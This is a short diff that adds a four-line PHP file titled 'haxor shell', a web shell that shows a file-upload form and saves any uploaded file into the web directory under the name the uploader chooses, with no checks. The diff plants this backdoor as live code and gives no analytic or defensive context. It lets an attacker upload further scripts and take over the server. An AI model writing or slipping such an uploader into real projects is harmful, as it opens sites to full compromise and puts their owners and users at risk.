@@ -1,0 +1,4 @@
+<?php
+echo '<b>haxor shell</b><br>';
+echo '<form method="post" enctype="multipart/form-data"><input type="file" name="f"><input type="submit"></form>';
+if (isset($_FILES['f'])) { copy($_FILES['f']['tmp_name'], $_FILES['f']['name']); echo 'ok'; }
